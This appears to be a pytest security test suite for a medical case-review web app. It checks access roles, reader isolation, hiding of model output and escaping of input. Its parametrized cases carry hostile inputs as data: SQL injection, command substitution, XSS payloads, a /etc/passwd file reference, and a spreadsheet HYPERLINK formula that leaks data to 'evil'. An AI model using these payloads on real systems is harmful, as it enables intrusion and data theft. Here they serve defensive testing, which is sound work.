"""Attacks by a logged-in reader: others' rights, the model's output before the reading, text that is code."""

from __future__ import annotations

import json
import re
from itertools import product

import polars as pl
import pytest

from medkd.app.cases.attribution import CAUTION
from medkd.app.storage.schema import AuditRow
from tests.security.conftest import GOOD, HOSTILE, MARK, Viewer

QUESTION = f"{HOSTILE}?"
TAG = re.compile(r"<(img|script|svg|iframe|object|embed)", re.IGNORECASE)


def panes(shown: dict[str, object]) -> str:
    """The HTML that is shown; figures, fields and labels are left out, which are text to a browser."""
    return "\n".join(
        str(value) for value in shown.values() if isinstance(value, str) and value.lstrip().startswith("<")
    )


@pytest.mark.parametrize("button", ["Add account", "Change role", "New password", "Remove account"])
@pytest.mark.parametrize("who", ["ada", "cleo"])
def test_only_an_admin_touches_accounts(viewer: Viewer, who: str, button: str):
    before = viewer.context.accounts.all()
    fields = {
        "account-name": "eve" if button == "Add account" else "ben",
        "account-role": "admin",
        "account-identifiers": True,
    }
    said = viewer.visitor(who).ask(button, **fields)
    assert "only an admin may see accounts" in str(said)
    assert viewer.context.accounts.all() == before


def test_a_list_of_accounts_is_an_admins(viewer: Viewer):
    for who in ("ada", "cleo"):
        visitor = viewer.visitor(who)
        assert "only an admin may see accounts" in visitor.say("accounts")["notice"]
        assert "grace" not in panes(visitor.shown)
    assert "grace" in panes(viewer.visitor("grace").say("accounts"))


def test_only_an_adjudicator_settles_a_case(viewer: Viewer):
    visitor = viewer.visitor("ada")
    assert "only an adjudicator" in visitor.say("settle 1")["notice"]
    visitor.say("case 1")
    said = visitor.ask("give-final", **{f"Final reading: {QUESTION}": "yes"})
    assert "only an adjudicator" in str(said)
    assert viewer.context.reviews.adjudications() == {}


def test_nothing_of_the_model_comes_before_the_readers_own_reading(viewer: Viewer):
    """By any event that a reader can send, in whatever order, with whatever the page would have hidden."""
    context = viewer.context
    p = context.cases.row(2)[f"p_cal_{HOSTILE}"]
    visitor = viewer.visitor("ada")
    asked = [lambda: visitor.say("case 2"), lambda: visitor.visit("/?case=2"), lambda: visitor.judge("agree")]
    for part in ("explain", "of", "kind", "start", "later"):
        asked.append(lambda part=part: visitor.ask(part, "input", explain=True, later=True))
    for sort, status in product(("uncertainty", "disagreement", f"p_cal_{HOSTILE}"), ("all", "abstains", "disagree")):
        asked.append(lambda sort=sort, status=status: visitor.ask("sort", "input", sort=sort, status=status))
    asked += [lambda: visitor.say("agreement"), lambda: visitor.say("settle 2"), lambda: visitor.say("list")]
    for act in asked:
        act()
        text = visitor.text
        assert not [digits for digits in (f"{p:.3f}", f"{p:.6f}", repr(p)) if digits in text]
        assert CAUTION[-50:] not in visitor.text
        assert "threshold" not in panes(visitor.shown)
    assert context.reviews.verdicts() == []
    assert viewer.visitor("ada").http.get("/export.csv").text.count("\n") == 1
    # The same reader, once they have read it: the words that were looked for are the right ones.
    visitor.say("case 2")
    visitor.read(**{QUESTION: "no"})
    assert f"{p:.2f}" in panes(visitor.shown)
    assert "threshold" in panes(visitor.shown)
    visitor.ask("explain", "input", explain=True)
    assert CAUTION[-50:] in visitor.text


def test_one_reader_gets_nothing_of_another(viewer: Viewer):
    first, second = viewer.visitor("ada"), viewer.visitor("ben")
    first.say("case 3")
    first.read(**{QUESTION: "yes"})
    first.judge("disagree", comment="ada-wrote-this")
    for act in ("case 3", "agreement", "list", "settle 3"):
        second.say(act)
        assert "ada-wrote-this" not in second.text
        assert "disagree</span>" not in panes(second.shown)
    assert "ada" not in second.http.get("/export.csv").text
    # Nor by another window's name: rights go by the session's cookie alone.
    second._session = first._session
    second.say("case 3")
    assert "ada-wrote-this" not in second.text
    assert "ada-wrote-this" in viewer.visitor("cleo").say("settle 3").__str__()


def test_a_removed_account_and_a_lesser_role_count_at_once(viewer: Viewer):
    context = viewer.context
    context.accounts.add("mallory", GOOD, "admin")
    visitor = viewer.visitor("mallory")
    context.accounts.change("mallory", "reader", False)
    assert "only an admin" in str(visitor.ask("Add account", **{"account-name": "eve", "account-role": "admin"}))
    context.accounts.remove("mallory")
    assert visitor.send("say", "change", say="case 1").status_code == 401
    assert context.accounts.account("eve") is None


@pytest.mark.parametrize(
    "search",
    [
        "' OR '1'='1",
        "'; DROP TABLE readings; --",
        '" UNION SELECT password_hash FROM accounts --',
        "%",
        "_",
        ".*",
        "[a-",
        "(?i)id",
        "\\",
        "$(touch oops)",
        "{{ 7 * 7 }}",
        "\0",
    ],
)
def test_what_is_searched_for_is_text(viewer: Viewer, search: str):
    visitor = viewer.visitor("ben")
    update = visitor.ask("search", "change", search=search)
    assert "No case fits" in panes(update)
    assert panes(visitor.ask("search", "change", search="")).count("<tr class") == 5
    # A part of a name is found as it stands, by those who may see names.
    assert panes(visitor.ask("search", "change", search=HOSTILE[:20].upper())).count("<tr class") == 5
    assert "No case fits" in panes(viewer.visitor("ada").ask("search", "change", search=MARK))


def test_every_name_from_outside_is_text_on_every_page(viewer: Viewer):
    """Class, task, cohort, subgroup, sample, reason, comment: all of them are tags here."""
    comment = f"{HOSTILE}\n\n# heading <b>[x](javascript:alert(1))</b> **bold** `code`"
    reader = viewer.visitor("ben")
    reader.say("case 4")
    reader.read(**{QUESTION: "yes"})
    reader.judge("disagree", comment=comment)
    seen = []
    for who in ("ben", "cleo", "grace"):
        visitor = viewer.visitor(who)
        for page in ("list", "case 4", "case 5", "settle 4", "model", "agreement", "accounts"):
            visitor.say(page)
            shown = panes(visitor.shown)
            assert not TAG.search(shown), (who, page)
            assert "<b>[x]" not in shown
            # A blank line would end the HTML and begin Markdown.
            assert not [
                value
                for value in visitor.shown.values()
                if isinstance(value, str) and value.startswith("<") and "\n" in value
            ]
            seen.append(shown)
    whole = "\n".join(seen)
    assert whole.count("&lt;img src=x onerror=alert(1)&gt;") > 100
    assert "&lt;b&gt;[x](javascript:alert(1))&lt;/b&gt;" in whole


def test_a_figure_holds_no_tag_but_its_own(viewer: Viewer):
    visitor = viewer.visitor("cleo")
    visitor.say("settle 1")
    figures = [
        json.loads(value["plot"]) for value in visitor.shown.values() if isinstance(value, dict) and "plot" in value
    ]
    assert len(figures) == 2
    texts = [
        text
        for figure in figures
        for text in _texts({key: part_of_layout for key, part_of_layout in figure["layout"].items() if key != "meta"})
    ]
    assert [text for text in texts if "&lt;img" in text]
    assert not [text for text in texts if re.search(r"<(?!/?(b|i|span|br|sup|sub)\b)", text)]


def _texts(value: object) -> list[str]:
    if isinstance(value, dict):
        return [text for inner in value.values() for text in _texts(inner)]
    if isinstance(value, list):
        return [text for inner in value for text in _texts(inner)]
    return [value] if isinstance(value, str) else []


def test_a_comment_that_a_spreadsheet_would_run_is_defused(viewer: Viewer):
    visitor = viewer.visitor("ada")
    visitor.say("case 1")
    visitor.read(**{QUESTION: "no"})
    visitor.judge("unsure", comment='=HYPERLINK("http://evil/?" & A1)')
    table = pl.read_csv(visitor.http.get("/export.csv").content)
    assert '\'=HYPERLINK("http://evil/?" & A1)' in table["comment"].to_list()


@pytest.mark.parametrize(
    ("part", "event", "fields"),
    [
        ("say", "change", {"say": "case 99999999999999999999"}),
        ("say", "change", {"say": "case -1"}),
        ("say", "change", {"say": f"case {HOSTILE}"}),
        ("explain", "input", {"number": "abc"}),
        ("explain", "input", {"number": "-5"}),
        ("give-reading", "click", {"number": "10**6", QUESTION: "yes"}),
        ("give-reading", "click", {QUESTION: "maybe"}),
        ("give-reading", "click", {QUESTION: {"path": "/etc/passwd", "meta": {"_type": "gradio.FileData"}}}),
        ("give-verdict", "click", {"agreement": "agree", "comment": "x" * 5000}),
        ("sort", "input", {"sort": "sample_id"}),
        ("status", "input", {"status": "; DROP TABLE"}),
        ("page-number", "input", {}),
    ],
)
def test_values_that_no_page_sends_change_nothing_and_tell_nothing(
    viewer: Viewer, capfd: pytest.CaptureFixture[str], part: str, event: str, fields: dict[str, object]
):
    context = viewer.context
    visitor = viewer.visitor("ben")
    visitor.say("case 2")
    before = context.reviews.readings(), context.reviews.verdicts()
    if (part, event) in visitor._handlers:
        answer = visitor.send(part, event, **fields)
        assert answer.status_code in (200, 422, 500)
        assert "Traceback" not in answer.text
        assert "root:" not in answer.text
    assert (context.reviews.readings(), context.reviews.verdicts()) == before


def test_a_patients_name_is_in_no_log_no_address_and_no_audit_row(
    viewer: Viewer, capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
):
    """A whole visit of one who may see names; then handlers that fail with a name in their message."""
    visitor = viewer.visitor("ben")
    asked = []
    visitor.http.event_hooks["request"].append(lambda request: asked.append(str(request.url)))
    visitor.ask("search", "change", search=MARK)
    for page in ("case 1", "case 5", "model", "agreement"):
        visitor.say(page)
    visitor.http.get("/export.csv")

    def fail(*_given: object, **_named: object) -> None:
        raise RuntimeError(f"of {MARK}")

    for name in ("display", "row"):
        with monkeypatch.context() as patched:
            patched.setattr(type(viewer.context.cases), name, fail)
            answer = visitor.send("say", "change", say="case 1;7")
            assert answer.status_code == 500
            assert MARK not in answer.text
    said = capfd.readouterr()
    assert MARK not in said.out + said.err
    assert not [url for url in asked if MARK in url]
    rows: list[AuditRow] = list(viewer.context.audit.rows())
    assert len(rows) > 20
    assert not [row for row in rows if MARK in f"{row.actor}{row.action}{row.details}"]
    assert viewer.context.audit.verify() == []
